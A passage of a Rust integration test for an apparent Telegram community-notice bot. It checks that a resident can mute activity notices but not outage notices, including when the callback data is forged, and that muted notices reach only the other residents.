    let app = TestApp::spawn().await;
    let li = app.owner(1001, "李雷", "1-1-101", "8613800000001").await;
    let wang = app.owner(1002, "王芳", "1-1-102", "8613800000002").await;
    let admin = app.admin().await;
    let before = li.seq();
    li.emu.send_text(li.id, "/notices");
    li.expect_containing(before, Text::new("notice-settings-head")).await;
    let q = li.press(Text::new("btn-notice-mute").arg("kind", NoticeKind::Activity.label()));
    li.answer_to(&q).await;
    li.press_shown(Text::new("btn-notice-unmute").arg("kind", NoticeKind::Activity.label())).await;
    // (pressed twice: muted, then unmuted; mute again for the test)
    li.press_shown(Text::new("btn-notice-mute").arg("kind", NoticeKind::Activity.label())).await;
    let deadline = Instant::now() + WAIT;
    while app.count("SELECT count(*) FROM notice_mutes WHERE telegram_id = 1001").await != 1 {
        assert!(Instant::now() < deadline);
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    // Outages cannot be muted, even by forged data.
    let q = li.press_data("nm:o:1");
    assert!(li.answer_to(&q).await.is_some());

    let party = compose(&app, &admin, Compose::new(NoticeKind::Activity, "重阳节敬老活动")).await;
    until_state(&app, party, "done").await;
    let outage = compose(&app, &admin, Compose::new(NoticeKind::Outage, "明晚停电检修")).await;
    received(&li, "明晚停电检修").await;
    until_state(&app, outage, "done").await;
    assert_eq!(got(&li, "重阳节敬老活动"), 0);
    assert_eq!(got(&wang, "重阳节敬老活动"), 1);
    app.stop().await;
}
